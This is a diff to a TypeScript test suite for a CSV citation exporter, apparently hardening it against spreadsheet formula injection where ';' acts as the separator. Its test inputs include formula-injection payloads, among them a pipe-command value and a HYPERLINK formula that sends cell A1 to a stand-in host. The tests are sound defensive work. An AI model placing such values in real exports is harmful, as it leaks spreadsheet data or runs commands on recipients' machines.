@@ -17,6 +17,31 @@ function report() {
   return made.place(b, { note: 'Ask again.', tags: ['water', 'x y'] });
 }
 
+/**
+ * The cells of a row as a spreadsheet splits it that expects `;`: a field is quoted where it opens
+ * with a quotation mark, and a closed quotation is followed by plain letters up to the next `;`.
+ */
+function cellsOfSemicolons(row: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let isQuoted = false;
+  for (let at = 0; at < row.length; at += 1) {
+    const char = row.charAt(at);
+    if (isQuoted) {
+      if (char !== '"') cell += char;
+      else if (row[at + 1] === '"') {
+        cell += char;
+        at += 1;
+      } else isQuoted = false;
+    } else if (char === '"' && cell === '') isQuoted = true;
+    else if (/[;\t\r\n]/u.test(char)) {
+      cells.push(cell);
+      cell = '';
+    } else cell += char;
+  }
+  return [...cells, cell];
+}
+
 describe('CSV', () => {
   test('has a line for each citation, in reading order, and for what no statement cites', () => {
     const [header, ...rows] = readCsv(writeCitationsCsv(report().build()));
@@ -44,12 +69,41 @@ describe('CSV', () => {
     '＝1',
   ])('a cell of %j is no formula', (value) => expect(csvCell(value)).toMatch(/^"'/u));
 
-  test.each(['a=1', '1-2', 'https://e.example/', '«\u00A0x\u00A0»', ''])(
-    '%j stays as it is',
-    (value) => {
-      expect(csvCell(value)).toBe(`"${value}"`);
-    },
-  );
+  /*
+   * Where the comma is the decimal sign, a spreadsheet takes `;` for the separator: a field that
+   * another one ends is then no longer quoted, and neither `;` nor a line break in it is safe.
+   */
+  test.each([
+    'see; =1+1',
+    'see;=HYPERLINK("https://a.example/?"&A1)',
+    'see ;\t+1',
+    'see;"=1',
+    'see; -1',
+    'see;@SUM(A1)',
+    'see;\u00A0＝1',
+    'first\n=1+1',
+    'first\r\n@SUM(A1)',
+    'a;b;|cmd',
+    'see;;=1',
+    'see;\n"" =1',
+  ])('no cell of a row with %j is a formula for a spreadsheet that splits at ;', (value) => {
+    const row = ['1', value, 'x'].map(csvCell).join(',');
+    const cells = cellsOfSemicolons(row);
+    expect(cells.length).toBeGreaterThan(1);
+    expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠|%]/u.test(cell))).toEqual([]);
+  });
+
+  test.each([
+    'a=1',
+    'Ann Field; Bo Hill',
+    'a; b\nc',
+    '1-2',
+    'https://e.example/',
+    '«\u00A0x\u00A0»',
+    '',
+  ])('%j stays as it is', (value) => {
+    expect(csvCell(value)).toBe(`"${value}"`);
+  });
 
   test('gives back what went in', () => {
     fc.assert(
@@ -60,7 +114,7 @@ describe('CSV', () => {
             .toWellFormed()
             .replace(/[\p{Cc}\u2028\u2029]/gu, '')
             .replace(/\s/gu, '')
-            .replace(/^'/u, '');
+            .replaceAll("'", '');
         expect(read.map(plain)).toEqual(cells.map(plain));
       }),
       { numRuns: 300 },
